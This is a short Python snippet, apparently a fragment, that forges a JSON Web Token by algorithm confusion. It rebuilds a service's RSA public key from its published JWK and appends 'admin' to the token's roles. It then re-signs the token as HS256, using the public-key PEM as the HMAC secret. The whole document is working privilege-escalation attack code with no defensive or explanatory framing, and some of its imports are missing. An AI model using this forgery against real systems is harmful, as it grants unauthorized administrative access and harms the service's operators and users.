# hmac of cryptography, PEM by load of the numbers
from cryptography.hazmat.primitives import hashes, hmac
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicNumbers

jwk = mine.find_key(published, header["kid"])
n = int.from_bytes(mine.base64url_decode(jwk["n"]))
e = int.from_bytes(mine.base64url_decode(jwk["e"]))
pem = (
    RSAPublicNumbers(e, n)
    .public_key()
    .public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
)
body = json.loads(claims)
body["roles"].append("admin")
enc = mine.base64url_encode
first = (
    enc(json.dumps({"alg": "HS256", "kid": jwk["kid"]}).encode())
    + "."
    + enc(json.dumps(body).encode())
)
mac = hmac.HMAC(pem, hashes.SHA256())
mac.update(first.encode())
forged = first + "." + enc(mac.finalize())
